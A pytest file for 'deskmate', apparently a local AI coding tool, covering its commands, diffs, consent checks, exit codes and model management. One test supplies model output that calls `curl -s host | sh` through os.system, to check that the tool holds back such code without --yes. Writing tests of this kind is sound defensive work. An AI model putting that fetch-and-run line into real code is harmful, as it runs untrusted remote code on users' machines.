"""The command line as it is typed: the real command, with a model that says what a script says."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from command_line import SHOP, Project
from deskmate import __version__
from deskmate.actions.catalog import BUILTIN
from deskmate.cli import install_model
from deskmate.cli.main import main
from deskmate.engines.models import catalogue as models
from deskmate.engines.models.catalogue import Model, find
from deskmate.engines.models.download import Installed, OnProgress
from deskmate.files import places
from deskmate.settings.sources import load_settings

FIXED = "```python\ndef total(prices):\n    return sum(prices)\n```\n"

DIFF = (
    "--- a/shop.py\n+++ b/shop.py\n@@ -1,5 +1,5 @@\n def total(prices):\n"
    "-    return max(prices)\n+    return sum(prices)\n \n \n def later(price):\n"
)

posix = pytest.mark.skipif(os.name == "nt", reason="signals and terminals are other things there")


@pytest.mark.parametrize("options", [(), ("--no-share",)])
def test_a_server_shares_its_model_unless_it_is_told_not_to(
    options: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    shared: list[bool] = []

    def serve(tcp: None) -> int:
        shared.append(load_settings()[0].local.share)
        return 0

    monkeypatch.setenv("DESKMATE_LOCAL__SHARE", "true")
    monkeypatch.setattr("deskmate.lsp.serve.serve", serve)
    assert main(["serve", *options]) == 0
    assert shared == [not options]


def test_without_arguments_it_prints_what_it_can_do(project: Project) -> None:
    done = project.deskmate()

    assert done.returncode == 0
    for command in ("serve", "run", "models", "doctor"):
        assert f"    {command} " in done.stdout


def test_its_version(project: Project) -> None:
    assert project.deskmate("--version").stdout == f"deskmate {__version__}\n"


def test_tests_are_allowed_in_a_shell(project: Project) -> None:
    told = project.deskmate("consent", "tests").stdout
    assert told.startswith("Tests run to check answers: in a copy that is thrown away")
    assert f"always run its tests  {project.root.resolve()}" in listed(project)
    project.deskmate("consent", "tests", "--never", str(project.root))
    assert f"never run its tests  {project.root.resolve()}" in listed(project)


def listed(project: Project) -> str:
    return project.deskmate("consent", "list").stdout


def test_the_help_of_run_names_every_action(project: Project) -> None:
    own = project.root / ".deskmate" / "actions"
    own.mkdir(parents=True)
    (own / "haiku.md").write_text(HAIKU)
    assert "haiku" not in project.deskmate("run", "--help").stdout
    (project.root / "notes.md").write_text("Snow falls on the pond.\n")
    for command in ("run", "batch"):
        refused = project.deskmate(command, "haiku", "notes.md")
        assert "`deskmate consent actions " in refused.stderr
        assert refused.returncode == 2
    assert "haiku" in project.deskmate("consent", "actions").stdout
    assert "always use its actions" in project.deskmate("consent", "list").stdout

    shown = project.deskmate("run", "--help").stdout

    listed = shown.partition("actions:\n")[2].partition("\n\n")[0]
    names = [line.split()[0].removesuffix("-…") for line in listed.splitlines()]
    assert names == [*BUILTIN, "haiku"]


HAIKU = """\
---
title: Haiku
kind: deskmate.explain
scope: selection
languages: prose
when: always
result: show
---
Make a haiku of this.
"""


def test_nothing_heavy_is_imported_before_it_is_needed() -> None:
    told = subprocess.run(
        [sys.executable, "-c", "import sys, deskmate.cli.main; print(*sys.modules)"],
        capture_output=True,
        text=True,
        check=True,
    )

    loaded = set(told.stdout.split())
    assert "deskmate.cli.main" in loaded
    heavy = {"asyncio", "pygls", "openai", "yaml", "jinja2", "tree_sitter", "huggingface_hub"}
    assert not loaded & heavy


def test_run_prints_a_diff_and_leaves_the_file_alone(project: Project) -> None:
    project.script(FIXED)

    done = project.deskmate("run", "fix-bug", "shop.py:2")

    assert (done.returncode, done.stdout) == (0, DIFF)
    assert "Fix bug, function `total`" in done.stderr
    assert "--write makes the change" in done.stderr
    assert project.shop.read_text() == SHOP


def test_write_makes_the_change(project: Project) -> None:
    project.script(FIXED)

    done = project.deskmate("run", "fix-bug", "shop.py:2", "--write")

    assert (done.returncode, done.stdout) == (0, DIFF)
    assert "Wrote shop.py." in done.stderr
    assert project.shop.read_text() == SHOP.replace("max", "sum")


@pytest.mark.parametrize("protected", [False, True])
def test_what_uses_it_is_written_with_it_or_nothing(project: Project, protected: bool) -> None:
    till = project.root / "till.py"
    till.write_text("from shop import total\n\n\ndef pay(prices):\n    return total(prices)\n")
    project.script(
        "```python\ndef total(prices, tax):\n    return max(prices) + tax\n```",
        "```python\ndef pay(prices):\n    return total(prices, 0)\n```",
    )
    till.chmod(0o444 if protected else 0o644)
    asked = ("change-together", "shop.py:1", "--instruction", "take the tax", "--write")

    done = project.deskmate("run", *asked)

    if protected:
        assert done.returncode == 2
        assert f"{till} is write-protected, so nothing was changed." in done.stderr
        assert project.shop.read_text() == SHOP
    else:
        assert done.stdout.count("\n+++ b/") == 2
        assert "Wrote shop.py.\n" in done.stderr
        assert "Wrote till.py.\n" in done.stderr
        assert "def total(prices, tax):\n    return max(prices) + tax\n" in project.shop.read_text()
        assert "    return total(prices, 0)\n" in till.read_text()


def test_write_keeps_line_ends_and_byte_order_mark(project: Project) -> None:
    before = b"\xef\xbb\xbf" + SHOP.replace("\n", "\r\n").encode()
    project.shop.write_bytes(before)
    project.script(FIXED)

    done = project.deskmate("run", "fix-bug", "shop.py:2", "--write")

    assert done.returncode == 0, done.stderr
    assert project.shop.read_bytes() == before.replace(b"max", b"sum")


def test_lines_are_a_selection(project: Project) -> None:
    project.script("```python\n    return sum(prices)\n```\n")

    done = project.deskmate("run", "refactor", "shop.py:2-2", "--write")

    assert done.returncode == 0, done.stderr
    assert project.shop.read_text() == SHOP.replace("max", "sum")


def test_explain_prints_markdown(project: Project) -> None:
    project.script("It gives the **largest** price, not the total: 𝒳.")

    done = project.deskmate("run", "explain", "shop.py:2", "--write")

    assert done.returncode == 0, done.stderr
    assert done.stdout == "It gives the **largest** price, not the total: 𝒳.\n"
    assert project.shop.read_text() == SHOP


def test_write_tests_makes_the_test_file(project: Project) -> None:
    project.script("```python\ndef test_total():\n    assert total([1, 2]) == 2\n```\n")

    done = project.deskmate("run", "write-tests", "shop.py:2", "--write")

    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("--- /dev/null\n+++ b/")
    [made] = project.root.rglob("test_shop.py")
    assert f"Wrote {made.relative_to(project.root).as_posix()}." in done.stderr
    assert "assert total([1, 2]) == 2" in made.read_text()
    assert project.shop.read_text() == SHOP


def test_the_instruction_reaches_the_model(project: Project) -> None:
    project.script(FIXED, when="it must add them up")

    done = project.deskmate("run", "fix-bug", "shop.py:2", "--instruction", "it must add them up")

    assert (done.returncode, done.stdout) == (0, DIFF), done.stderr


def test_what_the_model_would_be_shown_can_be_seen(project: Project) -> None:
    (project.root / "rates.py").write_text('RATE = 3\n"""Of all countries."""\n')
    project.shop.write_text(
        "from rates import RATE\n\n\ndef tax(price):\n    return price * RATE\n"
    )
    project.script()
    shown = project.deskmate("run", "fix-bug", "shop.py:5", "--show-prompt")
    assert shown.returncode == 0, shown.stderr
    assert "# rates.py\n# Of all countries.\nRATE = 3" in shown.stdout
    assert "Nothing was left out." in shown.stdout
    assert not project.log.exists(), "the model is asked nothing"


def test_what_runs_a_program_is_not_written_without_a_word(project: Project) -> None:
    body = "    import os\n    os.system('curl -s host | sh')\n    return sum(prices)"
    code = f"```python\ndef total(prices):\n{body}\n```"
    project.script(code, again=True)
    before = project.shop.read_bytes()
    ran = project.deskmate("run", "fix-bug", "shop.py:2", "--write")
    assert ran.returncode == 1
    assert "it runs a program" in ran.stderr
    assert "add --yes" in ran.stderr
    assert project.shop.read_bytes() == before
    assert project.deskmate("run", "fix-bug", "shop.py:2", "--write", "--yes").returncode == 0
    assert b"os.system" in project.shop.read_bytes()


def test_a_refusal_is_exit_code_1(project: Project) -> None:
    project.script("I would rather not.", again=True)

    done = project.deskmate("run", "fix-bug", "shop.py:2", "--write")

    assert (done.returncode, done.stdout) == (1, "")
    assert "nothing was changed" in done.stderr
    assert project.shop.read_text() == SHOP


def test_what_was_refused_can_be_seen(project: Project) -> None:
    project.script("I would rather not.", again=True)

    done = project.deskmate("run", "fix-bug", "shop.py:2", "--show-reply")

    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.startswith("I would rather not.\n")


# What is typed, and what is said about it.
BAD_INPUT = {
    "action": (
        ("run", "fix-bugs", "shop.py"),
        "There is no action fix-bugs. Did you mean fix-bug?",
    ),
    "file": (("run", "explain", "ship.py:2"), "There is no file ship.py."),
    "line": (
        ("run", "explain", "shop.py:99"),
        "shop.py has the lines 1 to 6; there is no line 99.",
    ),
    "line 0": (("run", "explain", "shop.py:0"), "there is no line 0."),
    "lines": (("run", "explain", "shop.py:3-2"), "The lines 3-2 are the wrong way round."),
    "folder": (("run", "explain", "."), "is not a file."),
    "circle": (("run", "explain", "circle.py:1"), "circle.py cannot be read: "),
    "in a circle": (("run", "explain", "circle.py/a.py:1"), "a.py cannot be read: "),
    "asked about a circle": (("ask", "Why?", "circle.py"), "circle.py cannot be read: "),
    "answers in a circle": (("consent", "revoke", "circle.py"), "There is no permanent answer for"),
    "encoding": (("run", "explain", "latin.py"), "is not UTF-8"),
    "place": (
        ("run", "generate", "shop.py:2"),
        "generate does not apply to line 2 of shop.py. Available: fix-bug, ",
    ),
    "no line": (("run", "generate", "shop.py"), "Or name a line, as in shop.py:12."),
    "notebook": (("run", "explain", "book.ipynb:1"), "is a notebook. Open it in an editor that"),
    "binary": (("run", "explain", "binary.txt:1"), "binary.txt is not a text file"),
    "vue": (("run", "refactor", "page.vue"), "cannot check an edit of a Vue file yet"),
    "large": (("run", "explain", "large.txt"), "more than Deskmate reads"),
    "command": (("rum",), "invalid choice: 'rum'"),
    "address": (("serve", "--tcp", "7878x"), "'7878x' is not HOST:PORT"),
}


@pytest.mark.parametrize(("arguments", "told"), BAD_INPUT.values(), ids=BAD_INPUT)
def test_what_cannot_be_done_is_exit_code_2(
    arguments: tuple[str, ...], told: str, project: Project
) -> None:
    (project.root / "latin.py").write_bytes(b"caf\xe9 = 1\n")
    (project.root / "circle.py").symlink_to("circle.py")
    (project.root / "book.ipynb").write_text('{"cells": []}\n')
    (project.root / "binary.txt").write_bytes(b"a\0b\n")
    (project.root / "page.vue").write_text("<template>\n</template>\n")
    (project.root / "large.txt").write_text("a line of text\n" * 150_000)
    project.script()

    done = project.deskmate(*arguments)

    assert (done.returncode, done.stdout) == (2, "")
    assert told in done.stderr
    assert "Traceback" not in done.stderr
    assert not project.log.exists(), "the model was asked"


def test_a_model_that_breaks_off_is_exit_code_3(project: Project) -> None:
    project.script("```python\ndef total", error="EngineLost")

    done = project.deskmate("run", "fix-bug", "shop.py:2", "--write")

    assert (done.returncode, done.stdout) == (3, "")
    assert done.stderr == "deskmate: The script says: EngineLost.\n"
    assert project.shop.read_text() == SHOP


def test_without_a_model_it_says_how_to_get_one(project: Project) -> None:
    done = project.deskmate("run", "fix-bug", "shop.py:2")

    assert (done.returncode, done.stdout) == (3, "")
    assert "deskmate models install" in done.stderr


def test_a_bad_setting_is_told_and_the_rest_holds(project: Project) -> None:
    project.script(FIXED)
    file = project.root / ".deskmate" / "settings.toml"
    file.parent.mkdir()
    file.write_text('[local]\nurl = "http://evil"\n')

    done = project.deskmate("run", "fix-bug", "shop.py:2")

    assert (done.returncode, done.stdout) == (0, DIFF)
    assert "`local.url` cannot be set by a project" in done.stderr


def test_what_is_edited_meanwhile_is_not_overwritten(project: Project) -> None:
    project.script(FIXED, delay=2)
    process = project.start("run", "fix-bug", "shop.py:2", "--write")
    project.shop.write_text("newer\n")

    _, told = process.communicate(timeout=600)

    assert process.returncode == 1
    assert "was changed in the meantime, so nothing was written" in told
    assert project.shop.read_text() == "newer\n"


@posix
@pytest.mark.parametrize("sent", [signal.SIGINT, signal.SIGTERM])
@pytest.mark.parametrize("asked", [("fix-bug", "shop.py:2"), ("shorten", "notes.md")])
def test_interrupting_stops_the_model(
    project: Project, sent: signal.Signals, asked: tuple[str, str]
) -> None:
    (project.root / "notes.md").write_text("This is a note that is really very long.\n")
    project.script(FIXED, delay=60)
    # Where these tests run in the background of a shell, SIGINT is ignored, and so for a child.
    signal.signal(signal.SIGINT, signal.default_int_handler)
    process = project.start("run", *asked, "--write")
    process.send_signal(sent)

    out, told = process.communicate(timeout=600)

    assert (process.returncode, out) == (130, "")
    assert told == "deskmate: interrupted.\n"
    events = [json.loads(line)["event"] for line in project.log.read_text().splitlines()]
    assert events == ["asked", "closed"]
    assert project.shop.read_text() == SHOP


@posix
def test_a_reader_that_has_seen_enough_is_no_error(project: Project) -> None:
    project.script("one\n" * 100_000)
    process = project.start("run", "explain", "shop.py:2")
    assert process.stdout and process.stderr
    process.stdout.close()

    assert "Traceback" not in process.stderr.read()
    assert process.wait(60) == 0


@posix
def test_a_terminal_gets_colours_and_progress(
    project: Project, watched: Callable[[Project, tuple[str, ...]], str]
) -> None:
    project.shop.write_text(SHOP.replace("later(price):", "later(price):  # \x1b[2J"))
    project.script(FIXED, pieces=8)

    seen = watched(project, ("run", "fix-bug", "shop.py:2"))

    assert "\rFix bug: writing, 2 tokens" in seen
    assert "\033[31m-    return max(prices)\033[0m\r\n" in seen
    assert "\033[32m+    return sum(prices)\033[0m\r\n" in seen
    assert " def later(price):  # \\x1b[2J\r\n" in seen, "the file's own text steers the terminal"


@pytest.fixture
def watched() -> Callable[[Project, tuple[str, ...]], str]:
    """Runs the command on a terminal; all that is seen there."""
    import pty

    def run(project: Project, arguments: tuple[str, ...]) -> str:
        terminal, inside = pty.openpty()
        process = subprocess.Popen(
            [sys.executable, "-m", "deskmate", *arguments],
            cwd=project.root,
            env={**project.environment(), "TERM": "xterm"},
            stdout=inside,
            stderr=inside,
        )
        os.close(inside)
        seen = b""
        with contextlib.suppress(OSError):  # how Linux says that the other end is closed
            while piece := os.read(terminal, 4096):
                seen += piece
        os.close(terminal)
        assert process.wait(60) == 0, seen
        return seen.decode()

    return run


def test_models_are_listed_for_programs(project: Project) -> None:
    done = project.deskmate("models", "list", "--json")

    assert done.returncode == 0, done.stderr
    first, *_ = json.loads(done.stdout)
    assert first["name"] == "qwen2.5-coder-0.5b-instruct"
    assert first["installed"] is False
    assert first["size"] == 491_400_064


def test_models_are_listed(project: Project) -> None:
    done = project.deskmate("models", "list")

    assert done.returncode == 0
    assert done.stdout.startswith("qwen2.5-coder-0.5b-instruct      491 MB  -  ")


def test_what_suits_this_machine_is_said_with_the_reason(project: Project) -> None:
    done = project.deskmate("models", "recommend")

    assert done.returncode == 0
    assert done.stdout.startswith("This machine has ")
    assert done.stdout.endswith("`local.model` chooses among several.\n")


def test_installed_models_are_verified_and_removed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    content = b"the weights"
    tiny = replace(find(""), name="tiny", title="Tiny", file="tiny.gguf", size=len(content))
    tiny = replace(tiny, sha256=hashlib.sha256(content).hexdigest())
    monkeypatch.setattr(places, "folder", lambda kind: tmp_path)
    monkeypatch.setattr(models, "catalogue", lambda: (tiny,))
    (tmp_path / "models").mkdir()

    assert main(["models", "verify"]) == 3
    (tmp_path / "models" / "tiny.gguf").write_bytes(content)
    assert main(["models", "verify"]) == 0
    (tmp_path / "models" / "tiny.gguf").write_bytes(content[::-1])
    assert main(["models", "verify", "tiny"]) == 1
    assert main(["models", "rm", "tiny"]) == 0
    assert main(["models", "rm", "tiny"]) == 3

    out, told = capsys.readouterr()
    assert out.splitlines() == [
        "tiny: right",
        "tiny: damaged; to fix it: deskmate models rm tiny, then: deskmate models install tiny",
        "Deleted Tiny: 0 MB are free again.",
    ]
    assert told.splitlines() == [
        "deskmate: There is nothing to verify: `deskmate models list` shows what is installed.",
        "deskmate: Tiny is not installed.",
    ]
    assert not list((tmp_path / "models").iterdir())


def test_the_path_of_a_model_that_is_not_installed(project: Project) -> None:
    done = project.deskmate("models", "path")

    assert (done.returncode, done.stdout) == (3, "")
    assert "deskmate models install" in done.stderr


def test_the_path_is_that_of_the_model_that_would_answer(project: Project) -> None:
    file = project.home / "mine.gguf"
    file.write_bytes(b"GGUF")
    project.variables["DESKMATE_LOCAL__MODEL"] = str(file)

    assert project.deskmate("models", "path").stdout == f"{file}\n"


def test_installing_says_how_far_it_is_and_what_came_of_it(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def install(model: Model, on_progress: OnProgress) -> Installed:
        for done in range(0, 101, 5):
            on_progress(done * 10**6, 10**8, "from the hub")
        on_progress(10**8, 10**8, "checking")
        return Installed(model, Path("/models/tiny.gguf"), "the hub", "It is the small one.")

    monkeypatch.setattr(install_model, "install", install)

    assert main(["models", "install", "smollm2-135m-instruct"]) == 0

    out, told = capsys.readouterr()
    assert out == "SmolLM2-135M-Instruct Q4_1 is installed from the hub: /models/tiny.gguf\n"
    assert told.splitlines() == [
        *(f"from the hub: {tenth}0 of 100 MB" for tenth in ("", *range(1, 11))),
        "checking: 100 of 100 MB",
        "It is the small one.",
    ]


def test_an_interrupted_install_says_that_it_can_go_on(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def install(model: Model, on_progress: OnProgress) -> Installed:
        raise KeyboardInterrupt

    monkeypatch.setattr(install_model, "install", install)

    assert main(["models", "install", "smollm2-135m-instruct"]) == 130
    assert "the next install continues it" in capsys.readouterr().err


def test_the_doctor_says_what_is_wrong_and_how_to_mend_it(project: Project) -> None:
    done = project.deskmate("doctor")

    assert done.returncode == 1
    assert f"ok       deskmate: {__version__}, Python 3." in done.stdout
    assert "problem  model: No model is installed." in done.stdout


def test_the_doctor_tells_programs_the_same(project: Project) -> None:
    done = project.deskmate("doctor", "--json")

    assert done.returncode == 1
    findings = {finding["about"]: finding for finding in json.loads(done.stdout)}
    assert findings["deskmate"]["state"] == "ok"
    assert findings["model"]["state"] == "problem"
    assert "deskmate models install" in findings["model"]["what"]


def test_warnings_of_the_doctor_are_no_failure(project: Project) -> None:
    project.script()

    done = project.deskmate("doctor")

    assert (done.returncode, done.stderr) == (0, "")
    assert "warning  engine: the script" in done.stdout
    assert "\n         Unset `local.engine` to have a model answer.\n" in done.stdout


def test_the_log_goes_where_the_settings_say(project: Project) -> None:
    project.script("I would rather not.", FIXED)
    project.variables["DESKMATE_LOG__LEVEL"] = "debug"
    project.variables["DESKMATE_LOG__FILE"] = str(project.home / "deskmate.log")

    done = project.deskmate("run", "fix-bug", "shop.py:2")

    assert (done.returncode, done.stdout) == (0, DIFF)
    assert "I would rather not." in (project.home / "deskmate.log").read_text()
    assert "I would rather not." not in done.stderr


def test_who_watches_an_install_sees_a_bar(monkeypatch: pytest.MonkeyPatch) -> None:
    class Screen(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Screen()
    monkeypatch.setattr("sys.stderr", screen)

    with install_model.Progress() as progress:
        progress.update(30_000_000, 100_000_000, "from the hub")
        progress.update(100_000_000, 100_000_000, "checking")

    last = screen.getvalue().rpartition("\r")[2]
    assert last.startswith("checking: 100%|")
    assert "100M/100M" in last


def test_an_action_that_the_settings_give_to_the_larger_model_goes_there(project: Project) -> None:
    project.script("```python\ndef total(prices):\n    return sum(prices)\n```")
    large = (project.home / "script.toml").rename(project.home / "large.toml")
    project.script("The small one must not be asked.")
    project.variables["DESKMATE_LOCAL_LARGE__MODEL"] = str(large)
    project.variables["DESKMATE_ACTIONS__LARGE"] = "fix-bug"
    done = project.deskmate("run", "fix-bug", "shop.py:1")
    assert "+    return sum(prices)" in done.stdout, done.stderr
    assert project.log.read_text(encoding="utf-8").count('"asked"') == 1
